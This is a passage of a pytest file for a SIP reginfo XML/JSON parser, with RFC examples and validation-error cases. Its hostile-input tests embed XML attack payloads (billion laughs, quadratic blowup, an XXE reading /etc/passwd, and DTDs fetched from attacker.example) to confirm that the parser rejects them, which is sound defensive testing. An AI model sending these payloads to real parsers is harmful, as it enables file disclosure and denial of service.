"""The reginfo parser: RFC 3680/5628 documents, the JSON twin, hostile input, and round
trips over generated documents. Pure Python, no database."""

import contextlib
import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from telephony.registrations.reginfo import (
    ACTIVE_EVENTS,
    CONTACT_EVENTS,
    EXT_NS,
    GRUUINFO_NS,
    MAX_BODY_BYTES,
    MAX_CONTACTS,
    MAX_COUNTER,
    MAX_PARAMS,
    MAX_REGISTRATIONS,
    MAX_VALUE,
    REGINFO_NS,
    REGISTRATION_STATES,
    ContactInfo,
    ReginfoDocument,
    ReginfoError,
    RegistrationInfo,
    parse_reginfo_xml,
    parse_registration_events,
)
from telephony.tests.reginfo_xml import render_reginfo_xml

IMEI = "urn:gsma:imei:35209900-176148-1"
UUID = "urn:uuid:f81d4fae-7dec-11d0-a765-00a0c91e6bf6"


def contact(**fields) -> ContactInfo:
    """A contact with every optional field absent, but for ``fields``."""
    absent = {
        "expires": None,
        "duration_registered": None,
        "retry_after": None,
        "callid": "",
        "cseq": None,
        "q": "",
        "display_name": "",
        "instance": "",
        "params": (),
        "pub_gruu": "",
        "temp_gruu": "",
        "user_agent": "",
        "access_network": "",
        "source_ip": "",
    }
    return ContactInfo(**{**absent, **fields})


# --- RFC 3680 ----------------------------------------------------------------------------

# §6 call flow: Joe subscribes to his own registration before his phone has registered,
# so the first (full) NOTIFY shows the AoR in "init" with no contacts ...
RFC3680_INITIAL = b"""<?xml version="1.0"?>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo"
         version="0" state="full">
  <registration aor="sip:joe@example.com" id="a7" state="init" />
</reginfo>
"""

# ... then his phone registers and a partial NOTIFY reports the new contact ...
RFC3680_REGISTERED = b"""<?xml version="1.0"?>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo"
         version="1" state="partial">
  <registration aor="sip:joe@example.com" id="a7" state="active">
    <contact id="76" state="active" event="registered"
             duration-registered="0" expires="3600">
      <uri>sip:joe@pc34.example.com</uri>
    </contact>
  </registration>
</reginfo>
"""

# ... and when the binding runs out, the last partial NOTIFY terminates it.
RFC3680_EXPIRED = b"""<?xml version="1.0"?>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo"
         version="2" state="partial">
  <registration aor="sip:joe@example.com" id="a7" state="terminated">
    <contact id="76" state="terminated" event="expired"
             duration-registered="3600" expires="0">
      <uri>sip:joe@pc34.example.com</uri>
    </contact>
  </registration>
</reginfo>
"""

# §5 example: a full document with one active and one expired contact.
RFC3680_FULL = b"""<?xml version="1.0"?>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo"
         xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
         version="0" state="full">
  <registration aor="sip:user@example.com" id="as9"
                state="active">
    <contact id="76" state="active" event="registered"
             duration-registered="7322"
             q="0.8">
      <uri>sip:user@pc887.example.com</uri>
    </contact>
    <contact id="77" state="terminated" event="expired"
             duration-registered="3600"
             q="0.5">
      <uri>sip:user@university.edu</uri>
    </contact>
  </registration>
</reginfo>
"""


def test_rfc3680_call_flow_goes_from_init_to_active_to_expired():
    assert parse_reginfo_xml(RFC3680_INITIAL) == ReginfoDocument(
        version=0,
        state="full",
        registrations=(RegistrationInfo("a7", "sip:joe@example.com", "init", ()),),
    )
    registered = contact(
        element_id="76",
        uri="sip:joe@pc34.example.com",
        state="active",
        event="registered",
        duration_registered=0,
        expires=3600,
    )
    assert parse_reginfo_xml(RFC3680_REGISTERED) == ReginfoDocument(
        version=1,
        state="partial",
        registrations=(RegistrationInfo("a7", "sip:joe@example.com", "active", (registered,)),),
    )
    expired = replace(
        registered, state="terminated", event="expired", duration_registered=3600, expires=0
    )
    assert parse_reginfo_xml(RFC3680_EXPIRED) == ReginfoDocument(
        version=2,
        state="partial",
        registrations=(RegistrationInfo("a7", "sip:joe@example.com", "terminated", (expired,)),),
    )


def test_rfc3680_full_document_keeps_active_and_terminated_contacts():
    document = parse_reginfo_xml(RFC3680_FULL)

    (registration,) = document.registrations
    assert (document.version, document.state) == (0, "full")
    assert (registration.element_id, registration.aor, registration.state) == (
        "as9",
        "sip:user@example.com",
        "active",
    )
    assert registration.contacts == (
        contact(
            element_id="76",
            uri="sip:user@pc887.example.com",
            state="active",
            event="registered",
            duration_registered=7322,
            q="0.8",
        ),
        contact(
            element_id="77",
            uri="sip:user@university.edu",
            state="terminated",
            event="expired",
            duration_registered=3600,
            q="0.5",
        ),
    )


# --- RFC 5628 GRUUs, the portal extension, an implicit registration set -------------------

RFC5628_EXAMPLE = f"""<?xml version="1.0"?>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo"
         xmlns:gr="urn:ietf:params:xml:ns:gruuinfo"
         version="1" state="full">
  <registration aor="sip:user@example.com" id="a7" state="active">
    <contact id="76" state="active" event="registered"
             expires="3600" callid="hy6t5e4w@192.0.2.1" cseq="9">
      <uri>sip:user@192.0.2.1</uri>
      <unknown-param name="+sip.instance">"&lt;{UUID}&gt;"</unknown-param>
      <gr:pub-gruu uri="sip:user@example.com;gr={UUID}"/>
      <gr:temp-gruu uri="sip:tgruu.7hs==jd7vnzga5w7fajsc7-ajd6fabz0f8g5@example.com;gr"
                    first-cseq="9"/>
    </contact>
  </registration>
</reginfo>
""".encode()


def test_rfc5628_gruus_and_the_instance_are_read():
    (registration,) = parse_reginfo_xml(RFC5628_EXAMPLE).registrations

    assert registration.contacts == (
        contact(
            element_id="76",
            uri="sip:user@192.0.2.1",
            state="active",
            event="registered",
            expires=3600,
            callid="hy6t5e4w@192.0.2.1",
            cseq=9,
            instance=UUID,
            pub_gruu=f"sip:user@example.com;gr={UUID}",
            temp_gruu="sip:tgruu.7hs==jd7vnzga5w7fajsc7-ajd6fabz0f8g5@example.com;gr",
        ),
    )


# What an S-CSCF sends after one REGISTER: every IMPU of the implicit registration set,
# each with the same device.
IMPLICIT_SET_CONTACT = f"""
    <contact id="0x7f45bcb27058" state="active" event="registered" expires="3599"
             q="1.000" callid="2f9c6e1a@10.45.0.7" cseq="3">
      <uri>sip:+4930123456@[2001:db8::7]:5060;transport=tcp</uri>
      <display-name xml:lang="de">Rob Smith</display-name>
      <unknown-param name="+g.3gpp.icsi-ref">"urn%3Aurn-7%3A3gpp-service.ims.icsi.mmtel"</unknown-param>
      <unknown-param name="+SIP.Instance">"&lt;urn:gsma:imei:35209900-176148-1&gt;"</unknown-param>
      <unknown-param name="+g.3gpp.smsip"/>
      <unknown-param name="video"></unknown-param>
      <gr:pub-gruu uri="sip:+4930123456@ims.example;gr={IMEI}"/>
      <ext:user-agent>Pixel 8 IMS/1.0</ext:user-agent>
      <ext:access-network>3GPP-E-UTRAN-FDD; utran-cell-id-3gpp=2620100011234567</ext:access-network>
      <ext:source-ip> 2001:DB8:0:0::7 </ext:source-ip>
    </contact>"""

IMPLICIT_SET = f"""<?xml version="1.0" encoding="UTF-8"?>
<reginfo xmlns="{REGINFO_NS}" xmlns:gr="{GRUUINFO_NS}" xmlns:ext="{EXT_NS}"
         version="12" state="full">
  <registration aor="tel:+4930123456" id="r1" state="active">{IMPLICIT_SET_CONTACT}
  </registration>
  <registration aor="sip:+4930123456@ims.example;user=phone" id="r2" state="active">{IMPLICIT_SET_CONTACT}
  </registration>
  <registration aor="sip:rob@swift.example" id="r3" state="active">{IMPLICIT_SET_CONTACT}
  </registration>
</reginfo>
""".encode()

IMPLICIT_SET_DEVICE = contact(
    element_id="0x7f45bcb27058",
    uri="sip:+4930123456@[2001:db8::7]:5060;transport=tcp",
    state="active",
    event="registered",
    expires=3599,
    q="1.000",
    callid="2f9c6e1a@10.45.0.7",
    cseq=3,
    display_name="Rob Smith",
    instance=IMEI,
    params=(
        ("+g.3gpp.icsi-ref", "urn%3Aurn-7%3A3gpp-service.ims.icsi.mmtel"),
        ("+g.3gpp.smsip", ""),
        ("video", ""),
    ),
    pub_gruu=f"sip:+4930123456@ims.example;gr={IMEI}",
    user_agent="Pixel 8 IMS/1.0",
    access_network="3GPP-E-UTRAN-FDD; utran-cell-id-3gpp=2620100011234567",
    source_ip="2001:db8::7",
)


def test_an_implicit_registration_set_shares_one_device():
    document = parse_reginfo_xml(IMPLICIT_SET)

    assert document == ReginfoDocument(
        version=12,
        state="full",
        registrations=(
            RegistrationInfo("r1", "tel:+4930123456", "active", (IMPLICIT_SET_DEVICE,)),
            RegistrationInfo(
                "r2", "sip:+4930123456@ims.example;user=phone", "active", (IMPLICIT_SET_DEVICE,)
            ),
            RegistrationInfo("r3", "sip:rob@swift.example", "active", (IMPLICIT_SET_DEVICE,)),
        ),
    )


def test_extensions_of_other_namespaces_are_ignored():
    extended = f"""<?xml version="1.0"?>
<reginfo xmlns="{REGINFO_NS}" xmlns:gr="{GRUUINFO_NS}" xmlns:ere="urn:3gpp:ns:extRegExp:1.0"
         xmlns:x="urn:example:other" xmlns:ext="{EXT_NS}" version="1" state="full" x:note="n">
  <x:summary>two devices</x:summary>
  <registration aor="sip:user@example.com" id="a7" state="active" x:flag="1">
    <x:contact id="99" state="active" event="registered"><x:uri>sip:x@y</x:uri></x:contact>
    <contact id="76" state="active" event="registered" gr:extra="ignored" x:weight="2">
      <uri>sip:user@192.0.2.1</uri>
      <x:uri>sip:ignored@example.com</x:uri>
      <gr:pub-gruu uri="sip:user@example.com;gr={UUID}" x:a="b"><x:inner/></gr:pub-gruu>
      <gr:future-gruu uri="sip:ignored@example.com"/>
      <ext:not-yet-defined>later</ext:not-yet-defined>
      <x:deep><x:deeper><x:deepest>text</x:deepest></x:deeper></x:deep>
    </contact>
    <ere:wildcardedIdentity>sip:user!.*!@example.com</ere:wildcardedIdentity>
  </registration>
  <ere:registration aor="sip:ignored@example.com" id="x" state="active"/>
</reginfo>
""".encode()

    assert parse_reginfo_xml(extended) == ReginfoDocument(
        version=1,
        state="full",
        registrations=(
            RegistrationInfo(
                "a7",
                "sip:user@example.com",
                "active",
                (
                    contact(
                        element_id="76",
                        uri="sip:user@192.0.2.1",
                        state="active",
                        event="registered",
                        pub_gruu=f"sip:user@example.com;gr={UUID}",
                    ),
                ),
            ),
        ),
    )


def test_values_are_read_as_the_schema_writes_them():
    body = f"""\ufeff<?xml version="1.0" encoding="utf-8"?>
<reginfo xmlns="{REGINFO_NS}" version=" +0012 " state="partial">
  <registration aor="  SIP:Alice@Example.COM  " id=" a 7 " state="active">
    <contact id="c" state="active" event="refreshed" expires="-0" cseq="0042"
             callid=" call id " q=" 0. ">
      <uri>
        Sips:alice@[2001:db8::1]:5061
      </uri>
      <display-name xml:lang="fr">  Élodie &lt;&amp;&gt; "O'Brien"  </display-name>
      <unknown-param name=" +sip.instance "> " &lt; {UUID} &gt; " </unknown-param>
      <unknown-param name="reg-id">1</unknown-param>
      <unknown-param name="note">" spaced "</unknown-param>
      <unknown-param name="comment">a<!-- ignored -->b<![CDATA[<c>]]></unknown-param>
    </contact>
  </registration>
</reginfo>""".encode()

    document = parse_reginfo_xml(body)

    assert document.version == 12
    (registration,) = document.registrations
    assert (registration.aor, registration.element_id) == ("SIP:Alice@Example.COM", " a 7 ")
    assert registration.contacts == (
        contact(
            element_id="c",
            uri="Sips:alice@[2001:db8::1]:5061",
            state="active",
            event="refreshed",
            expires=0,
            cseq=42,
            callid=" call id ",
            q="0.",
            display_name='Élodie <&> "O\'Brien"',
            instance=UUID,
            params=(("reg-id", "1"), ("note", " spaced "), ("comment", "ab<c>")),
        ),
    )


# --- Validation errors --------------------------------------------------------------------


def reginfo(registrations: str, root: str = 'version="0" state="full"') -> bytes:
    namespaces = f'xmlns="{REGINFO_NS}" xmlns:gr="{GRUUINFO_NS}" xmlns:ext="{EXT_NS}"'
    return f"<reginfo {namespaces} {root}>{registrations}</reginfo>".encode()


def one_contact(
    attributes: str = 'id="76" state="active" event="registered"',
    children: str = "<uri>sip:joe@pc34.example.com</uri>",
    registration: str = 'aor="sip:joe@example.com" id="a7" state="active"',
) -> bytes:
    return reginfo(
        f"<registration {registration}><contact {attributes}>{children}</contact></registration>"
    )


JOE = "registration 1 (aor sip:joe@example.com)"
CONTACT = f"{JOE}: contact 1"
REGISTERED = 'id="76" state="active" event="registered"'
URI = "<uri>sip:joe@pc34.example.com</uri>"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            b'<reginfo version="0" state="full"/>',
            f"the root element must be reginfo of namespace {REGINFO_NS}",
        ),
        (
            f'<registration xmlns="{REGINFO_NS}" aor="sip:a@b" id="1" state="init"/>'.encode(),
            f"the root element must be reginfo of namespace {REGINFO_NS}",
        ),
        (reginfo("", 'state="full"'), "reginfo: version is required"),
        (
            reginfo("", 'version="one" state="full"'),
            "reginfo: version must be a non-negative integer",
        ),
        (
            reginfo("", 'version="-1" state="full"'),
            "reginfo: version must be a non-negative integer",
        ),
        (
            reginfo("", 'version="1e3" state="full"'),
            "reginfo: version must be a non-negative integer",
        ),
        (
            reginfo("", f'version="{MAX_COUNTER + 1}" state="full"'),
            f"reginfo: version must be at most {MAX_COUNTER}",
        ),
        (reginfo("", 'version="0"'), "reginfo: state is required"),
        (
            reginfo("", 'version="0" state="Full"'),
            "reginfo: state must be one of full, partial, not 'Full'",
        ),
        (reginfo("<contact/>"), "reginfo: unexpected element contact"),
        (reginfo('<registration id="a7" state="init"/>'), "registration 1: aor is required"),
        (
            reginfo('<registration xmlns:x="urn:x" x:aor="sip:a@b" id="a7" state="init"/>'),
            "registration 1: aor is required",
        ),
        (
            reginfo('<registration aor="mailto:joe@example.com" id="a7" state="init"/>'),
            "registration 1: aor must be a sip:, sips: or tel: URI, not 'mailto:joe@example.com'",
        ),
        (
            reginfo('<registration aor="sip:joe @example.com" id="a7" state="init"/>'),
            "registration 1: aor must be a sip:, sips: or tel: URI, not 'sip:joe @example.com'",
        ),
        (
            reginfo('<registration aor="sip:joe@example.com" state="init"/>'),
            f"{JOE}: id is required",
        ),
        (
            reginfo('<registration aor="sip:joe@example.com" id="" state="init"/>'),
            f"{JOE}: id must not be empty",
        ),
        (
            reginfo('<registration aor="sip:joe@example.com" id="a7" state="pending"/>'),
            f"{JOE}: state must be one of init, active, terminated, not 'pending'",
        ),
        (
            one_contact(children=f"{URI}<url>sip:x@y</url>"),
            f"{CONTACT}: unexpected element url",
        ),
        (
            one_contact(children=f'{URI}<uri xmlns="">sip:x@y</uri>'),
            f"{CONTACT}: unexpected element uri",
        ),
        (one_contact('state="active" event="registered"'), f"{CONTACT}: id is required"),
        (
            one_contact('id="76" state="init" event="registered"'),
            f"{CONTACT}: state must be one of active, terminated, not 'init'",
        ),
        (one_contact('id="76" state="active"'), f"{CONTACT}: event is required"),
        (
            one_contact('id="76" state="active" event="logged-in"'),
            f"{CONTACT}: event must be one of registered, created, refreshed, shortened, "
            "expired, deactivated, probation, unregistered, rejected, not 'logged-in'",
        ),
        (
            one_contact('id="76" state="active" event="expired"'),
            f"{CONTACT}: event expired leaves a contact terminated, not active",
        ),
        (
            one_contact('id="76" state="terminated" event="refreshed"'),
            f"{CONTACT}: event refreshed leaves a contact active, not terminated",
        ),
        (one_contact(children=""), f"{CONTACT}: a contact must have exactly one uri, not 0"),
        (
            one_contact(children=URI * 2),
            f"{CONTACT}: a contact must have exactly one uri, not 2",
        ),
        (
            one_contact(children="<uri>https://example.com/joe</uri>"),
            f"{CONTACT}: uri must be a sip:, sips: or tel: URI, not 'https://example.com/joe'",
        ),
        (
            one_contact(children="<uri>sip:joe@<x:b xmlns:x='urn:x'/>pc34</uri>"),
            f"{CONTACT}: uri must hold text only",
        ),
        (
            one_contact(f'{REGISTERED} expires="-1"'),
            f"{CONTACT}: expires must be a non-negative integer",
        ),
        (
            one_contact(f'{REGISTERED} expires="3600.0"'),
            f"{CONTACT}: expires must be a non-negative integer",
        ),
        (
            one_contact(f'{REGISTERED} expires="3_600"'),
            f"{CONTACT}: expires must be a non-negative integer",
        ),
        (
            one_contact(f'{REGISTERED} expires="\uff13\uff16\uff10\uff10"'),
            f"{CONTACT}: expires must be a non-negative integer",
        ),
        (
            one_contact(f'{REGISTERED} duration-registered=""'),
            f"{CONTACT}: duration-registered must be a non-negative integer",
        ),
        (
            one_contact(f'{REGISTERED} retry-after="soon"'),
            f"{CONTACT}: retry-after must be a non-negative integer",
        ),
        (
            one_contact(f'{REGISTERED} cseq="{MAX_COUNTER + 1}"'),
            f"{CONTACT}: cseq must be at most {MAX_COUNTER}",
        ),
        (
            one_contact(f'{REGISTERED} expires="{"9" * 5000}"'),
            f"{CONTACT}: expires must be a non-negative integer",
        ),
        (
            one_contact(f'{REGISTERED} q="1.5"'),
            f"{CONTACT}: q must be a number from 0 to 1 with at most three decimals",
        ),
        (
            one_contact(f'{REGISTERED} q="0.1234"'),
            f"{CONTACT}: q must be a number from 0 to 1 with at most three decimals",
        ),
        (
            one_contact(f'{REGISTERED} q=".5"'),
            f"{CONTACT}: q must be a number from 0 to 1 with at most three decimals",
        ),
        (
            one_contact(
                children=f"{URI}<display-name>A</display-name><display-name>B</display-name>"
            ),
            f"{CONTACT}: more than one display-name",
        ),
        (
            one_contact(children=f"{URI}<display-name>{'x' * (MAX_VALUE + 1)}</display-name>"),
            f"{CONTACT}: display-name is longer than {MAX_VALUE} characters",
        ),
        (
            one_contact(children=f"{URI}<unknown-param>1</unknown-param>"),
            f"{CONTACT}: unknown-param name is required",
        ),
        (
            one_contact(children=f'{URI}<unknown-param name=" ">1</unknown-param>'),
            f"{CONTACT}: parameter name must not be empty",
        ),
        (
            one_contact(
                children=f'{URI}<unknown-param name="+sip.instance">"&lt;{IMEI}&gt;"</unknown-param>'
                f'<unknown-param name="+sip.instance">"&lt;{UUID}&gt;"</unknown-param>'
            ),
            f"{CONTACT}: more than one +sip.instance",
        ),
        (
            one_contact(
                children=f'{URI}<unknown-param name="+sip.instance">"&lt;&gt;"</unknown-param>'
            ),
            f"{CONTACT}: +sip.instance is empty",
        ),
        (
            one_contact(children=f"{URI}<gr:pub-gruu/>"),
            f"{CONTACT}: pub-gruu uri is required",
        ),
        (
            one_contact(children=f'{URI}<gr:pub-gruu uri="tel:+4930123456"/>'),
            f"{CONTACT}: pub-gruu must be a sip: or sips: URI, not 'tel:+4930123456'",
        ),
        (
            one_contact(
                children=f'{URI}<gr:pub-gruu uri="sip:a@b;gr"/><gr:pub-gruu uri="sip:c@d;gr"/>'
            ),
            f"{CONTACT}: more than one pub-gruu",
        ),
        (
            one_contact(children=f'{URI}<gr:temp-gruu uri="sip:t@example.com;gr"/>'),
            f"{CONTACT}: temp-gruu first-cseq is required",
        ),
        (
            one_contact(children=f'{URI}<gr:temp-gruu uri="sip:t@example.com;gr" first-cseq="x"/>'),
            f"{CONTACT}: temp-gruu first-cseq must be a non-negative integer",
        ),
        (
            one_contact(children=f"{URI}<ext:source-ip>999.1.1.1</ext:source-ip>"),
            f"{CONTACT}: source-ip must be an IPv4 or IPv6 address, not '999.1.1.1'",
        ),
        (
            one_contact(children=f"{URI}<ext:source-ip>fe80::1%eth0</ext:source-ip>"),
            f"{CONTACT}: source-ip must be an IPv4 or IPv6 address, not 'fe80::1%eth0'",
        ),
        (
            one_contact(
                children=f"{URI}<ext:user-agent>a</ext:user-agent><ext:user-agent>b</ext:user-agent>"
            ),
            f"{CONTACT}: more than one user-agent",
        ),
        (
            one_contact(registration='aor="sip:joe@example.com" id="a7" state="init"'),
            f"{JOE}: contact 1 is active but the registration is init",
        ),
        (
            reginfo(
                '<registration aor="sip:joe@example.com" id="a7" state="active">'
                f"<contact {REGISTERED}>{URI}</contact><contact {REGISTERED}>{URI}</contact>"
                "</registration>"
            ),
            f"{JOE}: contact 2: id is already used by contact 1",
        ),
        (
            reginfo(
                '<registration aor="sip:joe@example.com" id="a7" state="init"/>'
                '<registration aor="sip:ann@example.com" id="a7" state="init"/>'
            ),
            "registration 2 (aor sip:ann@example.com): id is already used by registration 1",
        ),
        (
            reginfo(
                '<registration aor="sip:joe@example.com" id="a7" state="init"/>'
                '<registration aor="sip:joe@example.com" id="a8" state="init"/>'
            ),
            "registration 2 (aor sip:joe@example.com): aor is already reported by registration 1",
        ),
        (
            reginfo(
                '<registration aor="sip:joe@example.com" id="a7" state="active">'
                + "".join(
                    f'<contact id="{n}" state="active" event="registered">{URI}</contact>'
                    for n in range(MAX_CONTACTS + 1)
                )
                + "</registration>"
            ),
            f"{JOE}: more than {MAX_CONTACTS} contacts",
        ),
        (
            one_contact(
                children=URI
                + "".join(f'<unknown-param name="p{n}"/>' for n in range(MAX_PARAMS + 1))
            ),
            f"{CONTACT}: more than {MAX_PARAMS} unknown-params",
        ),
    ],
)
def test_invalid_documents_are_refused_with_a_message_saying_where(body, message):
    with pytest.raises(ReginfoError) as refused:
        parse_reginfo_xml(body)

    assert str(refused.value) == message


def test_long_aors_are_cut_short_in_messages():
    aor = "sip:" + "a" * 100 + "@example.com"
    body = reginfo(f'<registration aor="{aor}" id="a7" state="unknown"/>')

    with pytest.raises(ReginfoError, match=r"^registration 1 \(aor sip:a{55}…\): state"):
        parse_reginfo_xml(body)


# --- Hostile input ------------------------------------------------------------------------
# Nothing here is timed: the body limit and the refusal of DTDs keep the work bounded by
# construction, so each case fails before it can grow.

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE reginfo [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full">
  <registration aor="sip:joe@example.com" id="&lol9;" state="init"/>
</reginfo>
"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?>\n<!DOCTYPE reginfo [<!ENTITY a "'
    + b"a" * 50_000
    + b'">]>\n<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full">'
    + b'<registration aor="sip:joe@example.com" id="'
    + b"&a;" * 10_000
    + b'" state="init"/></reginfo>'
)

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE reginfo [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full">
  <registration aor="sip:joe@example.com" id="&passwd;" state="init"/>
</reginfo>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE reginfo SYSTEM "http://attacker.example/reginfo.dtd">
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE reginfo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<reginfo xmlns="urn:ietf:params:xml:ns:reginfo" version="0" state="full"/>
"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, QUADRATIC_BLOWUP, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "quadratic-blowup", "external-entity", "external-dtd", "parameter"],
)
def test_dtds_and_entities_are_refused(body):
    with pytest.raises(
        ReginfoError, match=r"^document type declarations \(DTDs\) are not accepted$"
    ):
        parse_reginfo_xml(body)


def test_a_body_over_the_limit_is_refused_before_parsing():
    padding = b" " * (600 * 1024)
    body = reginfo("").replace(b"</reginfo>", padding + b"</reginfo>")

    with pytest.raises(ReginfoError, match=rf"^the body is larger than {MAX_BODY_BYTES} bytes$"):
        parse_reginfo_xml(body)


def test_more_registrations_than_the_limit_are_refused():
    body = reginfo(
        "".join(
            f'<registration aor="sip:u{n}@example.com" id="{n}" state="init"/>'
            for n in range(MAX_REGISTRATIONS + 1)
        )
    )
    assert len(body) < MAX_BODY_BYTES

    with pytest.raises(
        ReginfoError, match=rf"^reginfo: more than {MAX_REGISTRATIONS} registrations$"
    ):
        parse_reginfo_xml(body)


def test_deeply_nested_junk_is_refused():
    unclosed = b"<a>" * 150_000
    with pytest.raises(ReginfoError, match=r"^the body is not well-formed XML: no element found"):
        parse_reginfo_xml(unclosed)

    depth = 30_000
    nested = reginfo("<junk>" * depth + "</junk>" * depth)
    assert len(nested) < MAX_BODY_BYTES
    with pytest.raises(ReginfoError, match=r"^reginfo: unexpected element junk$"):
        parse_reginfo_xml(nested)


def test_deeply_nested_extensions_are_skipped_without_recursion():
    depth = 40_000
    nested = one_contact(
        children=URI + "<x:a xmlns:x='urn:x'>" + "<x:a>" * depth + "</x:a>" * (depth + 1)
    )
    assert len(nested) < MAX_BODY_BYTES

    (registration,) = parse_reginfo_xml(nested).registrations
    assert registration.contacts[0].uri == "sip:joe@pc34.example.com"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            RFC3680_FULL.replace(b"pc887", "pc887-José".encode("latin-1")),
            r"^the body is not UTF-8 \(byte \d+\)$",
        ),
        (RFC3680_FULL.decode().encode("utf-16"), r"^the body is not UTF-8 \(byte 0\)$"),
        (
            RFC3680_FULL.replace(b'version="1.0"?>', b'version="1.0" encoding="ISO-8859-1"?>'),
            "^the body must be UTF-8, not ISO-8859-1$",
        ),
        (RFC3680_FULL[: len(RFC3680_FULL) // 2], "^the body is not well-formed XML: "),
        (b"", "^the body is not well-formed XML: "),
        (b"\x00\x01\x02", "^the body is not well-formed XML: "),
        (b"<reginfo", "^the body is not well-formed XML: "),
        (RFC3680_FULL.replace(b"<uri>", b"<uri>&#0;"), "^the body is not well-formed XML: "),
        (
            RFC3680_FULL.replace(b"<uri>", b"<uri>&undeclared;"),
            "^the body is not well-formed XML: ",
        ),
    ],
    ids=[
        "latin-1",
        "utf-16",
        "declared-latin-1",
        "truncated",
        "empty",
        "binary",
        "unclosed",
        "nul-reference",
        "undeclared-entity",
    ],
)
def test_bodies_that_are_not_utf8_xml_are_refused(body, message):
    with pytest.raises(ReginfoError, match=message):
        parse_reginfo_xml(body)


# --- JSON ---------------------------------------------------------------------------------

IMPLICIT_SET_JSON_CONTACT = {
    "id": "0x7f45bcb27058",
    "uri": "sip:+4930123456@[2001:db8::7]:5060;transport=tcp",
    "state": "active",
    "event": "registered",
    "expires": 3599,
    "q": "1.000",
    "callid": "2f9c6e1a@10.45.0.7",
    "cseq": 3,
    "display_name": "Rob Smith",
    "instance": f"<{IMEI}>",
    "params": {
        "+g.3gpp.icsi-ref": '"urn%3Aurn-7%3A3gpp-service.ims.icsi.mmtel"',
        "+g.3gpp.smsip": "",
        "video": "",
    },
    "pub_gruu": f"sip:+4930123456@ims.example;gr={IMEI}",
    "user_agent": "Pixel 8 IMS/1.0",
    "access_network": "3GPP-E-UTRAN-FDD; utran-cell-id-3gpp=2620100011234567",
    "source_ip": "2001:DB8:0:0::7",
}


def test_json_events_equal_the_same_reginfo_document():
    events = {
        "version": 12,
        "state": "full",
        "registrations": [
            {
                "aor": aor,
                "id": element_id,
                "state": "active",
                "contacts": [IMPLICIT_SET_JSON_CONTACT],
            }
            for element_id, aor in [
                ("r1", "tel:+4930123456"),
                ("r2", "sip:+4930123456@ims.example;user=phone"),
                ("r3", "sip:rob@swift.example"),
            ]
        ],
    }

    assert parse_registration_events(events) == parse_reginfo_xml(IMPLICIT_SET)


def test_json_defaults_fill_in_what_an_event_leaves_out():
    events = {
        "registrations": [
            {
                "aor": "tel:+4930123456",
                "contacts": [
                    {
                        "uri": "sip:a@192.0.2.1",
                        "state": "active",
                        "event": "created",
                        "instance": f' "<{IMEI}>" ',
                    },
                    {
                        "uri": " sip:b@192.0.2.2 ",
                        "state": "active",
                        "event": "registered",
                        "expires": None,
                        "display_name": None,
                    },
                ],
            },
            {"aor": "sip:rob@swift.example", "state": "terminated"},
        ]
    }

    assert parse_registration_events(events) == ReginfoDocument(
        version=0,
        state="partial",
        registrations=(
            RegistrationInfo(
                "tel:+4930123456",
                "tel:+4930123456",
                "active",
                (
                    contact(
                        element_id=IMEI,
                        uri="sip:a@192.0.2.1",
                        state="active",
                        event="created",
                        instance=IMEI,
                    ),
                    contact(
                        element_id="sip:b@192.0.2.2",
                        uri="sip:b@192.0.2.2",
                        state="active",
                        event="registered",
                    ),
                ),
            ),
            RegistrationInfo("sip:rob@swift.example", "sip:rob@swift.example", "terminated", ()),
        ),
    )


def test_a_json_instance_may_also_come_as_a_param():
    base = {"uri": "sip:a@192.0.2.1", "state": "active", "event": "registered", "id": "c"}
    as_param = {**base, "params": {"+sip.instance": f'"<{UUID}>"', "reg-id": "1"}}
    as_field = {**base, "instance": UUID, "params": {"reg-id": "1"}}

    def events(contact_fields):
        return {"registrations": [{"aor": "sip:a@example.com", "contacts": [contact_fields]}]}

    assert parse_registration_events(events(as_param)) == parse_registration_events(
        events(as_field)
    )


def json_contact(**fields) -> dict:
    return {"uri": "sip:a@192.0.2.1", "state": "active", "event": "registered", **fields}


def json_events(**contact_fields) -> dict:
    return {
        "registrations": [
